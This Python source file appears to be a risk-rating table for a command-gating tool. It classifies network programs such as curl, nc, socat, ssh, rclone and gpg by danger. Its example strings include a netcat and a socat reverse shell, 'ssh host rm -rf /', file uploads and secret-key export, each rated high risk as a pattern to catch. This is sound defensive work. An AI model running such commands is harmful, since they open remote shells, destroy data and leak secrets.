"""Programs that talk to other machines. `curl`, `ssh` and their kin have judges of their own."""

from __future__ import annotations

from sandgate.assessment.findings import EXFILTRATION, HIGH, LOW, MEDIUM, NETWORK, SYSTEM
from sandgate.assessment.knowledge.entry import Entry, Worse

CURL_VALUES = (
    "-A -b -c -C -d -D -e -E -F -H -h -K -m -o -P -Q -r -t -T -u -U -w -x -X -y -Y -z --data --data-binary --data-raw "
    "--data-urlencode --form --header --output --request --upload-file --url --user --user-agent --proxy --cacert "
    "--cert --key --max-time --connect-timeout --retry --json --unix-socket --abstract-unix-socket --mail-from "
    "--mail-rcpt "
    "--data-ascii --form-string --oauth2-bearer --interface --dns-servers --limit-rate --write-out --cookie-jar "
    "--dump-header --range --proxy-user --noproxy --socks5 --socks5-hostname --preproxy --retry-delay --retry-max-time "
    "--key-type --cert-type --pass --ciphers --tls-max --max-filesize --time-cond --max-redirs --connect-to --doh-url "
    "--aws-sigv4 --url-query --stderr --trace --trace-ascii --libcurl --pinnedpubkey --proto --proto-redir "
    "--speed-limit "
    "--speed-time --etag-save --etag-compare --hsts --alt-svc --capath --crlfile --engine --keepalive-time  "
    "--cookie --config --resolve --output-dir --referer"
)
WGET_VALUES = (
    "-O -o -P -a -e -i -t -T -U -A -R -D -l -Q -w -B "
    "--output-document --post-data --post-file --header --user-agent --body-data --body-file --method --tries "
    "--timeout --wait "
    "--directory-prefix --output-file --append-output --input-file --user --password --http-user --http-password "
    "--referer "
    "--load-cookies --save-cookies --level --accept --reject --domains --limit-rate --ca-certificate --certificate "
    "--private-key"
)
SSH_VALUES = "-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w"

ENTRIES: tuple[Entry, ...] = (
    Entry("curl", LOW, "Downloads", ("curl https://example.com => medium", "curl -T a.txt https://example.com => high",
          "curl http://localhost:8000 => low"), kind="contacts", values=CURL_VALUES),
    Entry("wget", LOW, "Downloads", ("wget https://example.com/a => medium",), kind="contacts", values=WGET_VALUES),
    Entry("aria2c", MEDIUM, "Downloads", ("aria2c https://example.com/a",), kind="contacts", categories=(NETWORK,)),
    Entry("http", MEDIUM, "Sends a request", ("http example.com",), kind="contacts", categories=(NETWORK,)),
    Entry("https", MEDIUM, "Sends a request", ("https example.com",), kind="contacts", categories=(NETWORK,)),
    Entry("nc", LOW, "Opens a connection", ("nc example.com 80 => medium", "nc -l 4444 => high",
          "nc -e /bin/sh example.com 4444 => high"), kind="contacts"),
    Entry("socat", LOW, "Joins connections", ("socat TCP:example.com:80 - => medium",
          "socat TCP:example.com:1 EXEC:sh => high"), kind="contacts"),
    Entry("ftp", MEDIUM, "Transfers files", ("ftp example.com",), kind="contacts", categories=(NETWORK,)),
    Entry("lftp", MEDIUM, "Transfers files", ("lftp example.com",), kind="contacts", categories=(NETWORK,),
          values="-e"),
    Entry("ssh", LOW, "Logs in to another machine", ("ssh host ls => medium", "ssh host rm -rf / => high"),
          kind="contacts", values=SSH_VALUES),
    Entry("scp", LOW, "Copies files between machines", ("scp a.txt host: => high", "scp host:a.txt . => medium"),
          kind="contacts", values="-c -F -i -J -l -o -P -S"),
    Entry("sftp", MEDIUM, "Transfers files", ("sftp host",), kind="contacts", categories=(NETWORK,),
          values="-b -i -P -o"),
    Entry("ssh-keygen", MEDIUM, "Makes a key", ("ssh-keygen -t ed25519 -f key",), kind="writes",
          values="-t -b -C -f -N -R -F -E -m -P -O -a -s -I -n -V -D"),
    Entry("ssh-copy-id", HIGH, "Lets your key log in to another machine", ("ssh-copy-id host", "ssh-copy-id -n host "
                                                                                               "=> low"),
          kind="contacts", categories=(NETWORK, "privilege_escalation"), harmless="-n -h", values="-i -p -o -F -t"),
    Entry("ssh-add", MEDIUM, "Loads keys", ("ssh-add", "ssh-add -l => low"), kind="privilege",
          harmless="-l -L --help", values="-t -E"),
    Entry("ping", LOW, "Asks whether a host answers", ("ping -c 1 localhost", "ping -c 1 example.com => medium"),
          kind="contacts", operands="host", values="-c -i -W -s -t -I",
          worse=(Worse("-f --flood", HIGH, "Floods another machine with requests", ("resource_exhaustion", NETWORK)),)),
    Entry("dig", MEDIUM, "Asks a name server", ("dig example.com",), kind="contacts", categories=(NETWORK,)),
    Entry("nslookup", MEDIUM, "Asks a name server", ("nslookup example.com", "nslookup -version => low"),
          kind="contacts", categories=(NETWORK,), harmless="-version", clusters=False),
    Entry("whois", MEDIUM, "Asks a registry", ("whois example.com",), kind="contacts", categories=(NETWORK,)),
    Entry("traceroute", MEDIUM, "Follows the way to a host", ("traceroute example.com",), kind="contacts",
          categories=(NETWORK,)),
    Entry("wg", LOW, "Shows a private network", ("wg show", "wg set wg0 x => high", "wg showconf wg0 => high"),
          kind="reads",
          worse=(Worse("", HIGH, "Prints keys or changes a private network", (SYSTEM, EXFILTRATION),
                       operands="set setconf addconf syncconf showconf genkey-out private-key dump"),)),
    Entry("rclone", MEDIUM, "Talks to a storage service", ("rclone ls remote:",), kind="contacts",
          categories=(NETWORK,)),
    Entry("rclone copy", HIGH, "Copies files to a storage service", ("rclone copy . remote:x",), kind="contacts",
          categories=(EXFILTRATION, NETWORK)),
    Entry("rclone sync", HIGH, "Makes a storage service equal to a directory", ("rclone sync . remote:x",),
          kind="contacts", categories=("data_deletion", EXFILTRATION, NETWORK)),
    Entry("rclone delete", HIGH, "Deletes files of a storage service", ("rclone delete remote:x",), kind="deletes",
          categories=("data_deletion", NETWORK)),
    Entry("rclone purge", HIGH, "Deletes files of a storage service", ("rclone purge remote:x",), kind="deletes",
          categories=("data_deletion", NETWORK)),
    Entry("openssl", LOW, "Uses cryptography", ("openssl version",
          "openssl s_client -connect example.com:443 => medium"),
          kind="reads", clusters=False),
    Entry("openssl s_client", MEDIUM, "Opens a connection", ("openssl s_client -connect example.com:443",),
          kind="contacts", categories=(NETWORK,), clusters=False),
    Entry("gpg", MEDIUM, "Uses keys", ("gpg --list-keys => low","gpg --verify a.sig", "gpg --export-secret-keys => "
                                                                                      "high",
          "gpg --delete-secret-keys me => high"), kind="reads",
          worse=(Worse("--export-secret-keys --export-secret-subkeys", HIGH, "Prints your private keys",
          (EXFILTRATION,)),
                 Worse("--send-keys --send-key", HIGH, "Publishes a key", (NETWORK, EXFILTRATION)),
                 Worse("--delete-secret-keys --delete-keys --delete-secret-and-public-key", HIGH, "Deletes keys",
                       ("data_deletion",))),
          harmless="--list-keys -k -K --list-secret-keys --list-public-keys --fingerprint --list-packets"),
)  # fmt: skip
